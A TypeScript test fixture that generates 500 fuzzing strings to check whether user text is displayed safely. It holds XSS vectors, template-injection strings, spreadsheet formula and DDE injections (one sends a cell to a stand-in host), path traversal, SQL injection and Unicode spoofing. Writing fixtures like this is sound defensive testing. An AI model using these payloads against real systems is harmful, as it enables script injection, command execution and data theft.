/**
 * Five hundred texts made to be run, to break a layout or to pass for something else; the same ones every time. Each that would run calls `rouseHacked`, so
 * that a test can tell whether one did.
 */
const CALL = 'globalThis.rouseHacked=1';

const MARKUP = [
	`<script>${CALL}</script>`,
	`<img src=x onerror="${CALL}">`,
	`<svg onload="${CALL}">`,
	`<svg><script href="data:text/javascript,${CALL}"/></svg>`,
	`<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
	`<body onload="${CALL}">`,
	`<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
	`<iframe src="javascript:${CALL}"></iframe>`,
	`<a href="javascript:${CALL}">x</a>`,
	`<details open ontoggle="${CALL}">`,
	`<input autofocus onfocus="${CALL}">`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${CALL}">`,
	`<style>*{display:none!important}</style>`,
	`<link rel=stylesheet href="data:text/css,*{display:none}">`,
	`<meta http-equiv=refresh content="0;url=data:text/html,x">`,
	`<base href="https://elsewhere.invalid/">`,
	`<form action="https://elsewhere.invalid/"><button>x</button></form>`,
	`<object data="data:text/html,<script>${CALL}</script>"></object>`,
	`<template shadowrootmode=open><script>${CALL}</script></template>`,
	`<div style="position:fixed;inset:0;background:red">`,
	`</td></tr></table><script>${CALL}</script>`,
	`</textarea><script>${CALL}</script>`,
	`</title><script>${CALL}</script>`,
	`--><script>${CALL}</script><!--`,
	`]]><script>${CALL}</script>`,
	`javascript:${CALL}`,
	`data:text/html,<script>${CALL}</script>`,
	`' onmouseover='${CALL}`,
	`" autofocus onfocus="${CALL}`,
	`\`-${CALL}-\``
];
const TEMPLATES = [
	'{{constructor.constructor("X")()}}',
	`$${'{X}'}`,
	'#{X}',
	'<%= X %>',
	'{@html "X"}',
	'{X}',
	'{name}',
	'{{name}}',
	'[[X]]',
	'%s%n%x',
	`$${'{{X}}'}`,
	'{{#with "s"}}{{/with}}'
].map((text) => text.replaceAll('X', CALL));
const FORMULAS = [
	'=1+1',
	'=HYPERLINK("https://elsewhere.invalid/","x")',
	"=cmd|' /C calc'!A0",
	'=WEBSERVICE("https://elsewhere.invalid/"&A1)',
	'=IMPORTXML("https://elsewhere.invalid/","//a")',
	'+1+1',
	'-1+1',
	'-2+3+cmd|x',
	'@SUM(1+1)',
	'\t=1+1',
	'\u200b=1+1',
	'\uff1d1+1',
	' =1+1',
	"'=1+1",
	'"=1+1"',
	';=1+1',
	',=1+1',
	'=DDE("x";"y")'
];
const DIRECTION = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2069', '\u200f', '\u061c'].flatMap((mark) => [`${mark}gpj.exe`, `Anna ${mark}1000`, mark]);
const UNSEEN = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u3164', '\u115f', '\u2800', '\u00a0', '\u180e', '\u{e0041}'].flatMap((mark) => [
	`An${mark}na`,
	mark,
	`${mark}${mark}Anna`
]);
const PROTOTYPE = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'valueOf',
	'hasOwnProperty',
	'__defineGetter__',
	'then',
	'length',
	'0',
	'null',
	'undefined',
	'NaN',
	'true',
	'[object Object]'
];
const BREAKS = [
	'\u0000',
	'a\u0000b',
	'\u0007',
	'\u001b[31mred',
	'\ud800',
	'\udc00x',
	'\ufffe',
	'\u2028',
	'\u2029',
	'a\u0085b',
	'\r',
	'a\nb',
	'a\r\nBEGIN:VEVENT',
	'END:VCARD',
	'a\tb',
	'a"b"c',
	"a'b",
	'a;b,c',
	'\\n',
	'%0d%0a',
	'../../../etc/passwd',
	'C:\\con',
	"'; DROP TABLE plans;--"
];
const WIDE = [
	'W',
	'\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
	'\u0c1c\u0c4d\u0c1e\u200c\u0c3e',
	'a\u0335\u0336\u0337\u0338',
	'\u{1d54f}',
	'\ufdfd',
	'\u0e47'
].flatMap((sign) => [sign, sign.repeat(40), sign.repeat(400)]);
const HUGE = ['A'.repeat(20_000), 'слово '.repeat(3000), '<b>'.repeat(2000), '='.repeat(5000), '\u0301'.repeat(3000), `x${'\n'.repeat(3000)}x`];

const KINDS = [...MARKUP, ...TEMPLATES, ...FORMULAS, ...DIRECTION, ...UNSEEN, ...PROTOTYPE, ...BREAKS, ...WIDE, ...HUGE];
/** What a person would write around it. */
const AROUND: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => `Anna ${text}`,
	(text) => `${text} Kovalenko`,
	(text) => `"${text}"`,
	(text) => `${text}${text}`
];

export const PAYLOADS: readonly string[] = AROUND.flatMap((around) => KINDS.map(around)).slice(0, 500);
